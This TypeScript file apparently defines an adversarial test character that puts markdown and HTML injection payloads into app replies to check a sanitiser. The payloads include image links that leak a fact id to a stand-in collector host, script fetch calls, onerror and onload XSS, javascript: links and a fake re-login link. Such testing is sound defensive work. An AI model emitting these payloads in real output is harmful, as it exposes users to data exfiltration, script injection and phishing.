import { looksFirst, type Character } from './character.ts';

const HOST = 'collector.invalid';

/** Everything that a page could be made to load, run or lead away with. `#` stands for the id of a fact. */
const PICTURES: readonly string[] = [
  `![route](https://${HOST}/p.png?q={{#}})`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://${HOST}/a.gif">`,
  `[your plan](javascript:alert(1))`,
  `[log in again](https://${HOST}/login)`,
  `<script>fetch('https://${HOST}')</script>`,
  `![][1]\n\n[1]: https://${HOST}/x.png`,
  `<iframe src="https://${HOST}"></iframe>`,
  `Visit https://${HOST}/now or www.${HOST} today`,
  `<a href="data:text/html,hi">more</a>`,
  `&lt;img src=x onerror=alert(1)&gt;`,
  `<svg/onload=alert(1)>`,
  `[a](  https://${HOST}/a "title" )`,
  `!\u200b[x](https://${HOST}/y.png)`,
  `<https://${HOST}/auto>`,
  `hxxps colon: https:\u200b//${HOST}/z`,
  `<style>*{display:none}</style>`,
  `[10.0 km](#fact:forged)`,
  `<details open ontoggle=alert(1)>`,
  `//${HOST}/protocol-relative`,
  `mailto:me@${HOST}`,
  `<b onclick="alert(1)">bold</b> <!-- ${HOST} -->`,
];

export const paints: Character = looksFirst(({ shown, random }) => {
  const first = PICTURES[random.whole(0, PICTURES.length - 1)] ?? '';
  const second = PICTURES[random.whole(0, PICTURES.length - 1)] ?? '';
  const id = shown.facts[0]?.id ?? 'none';
  const say = `Here is your run: ${first.replace('#}}', `${id}}}`)} and then ${second.replace('#}}', `${id}}}`)} well done.`;
  return { reply: [{ say }], lies: [HOST, 'forged'] };
});
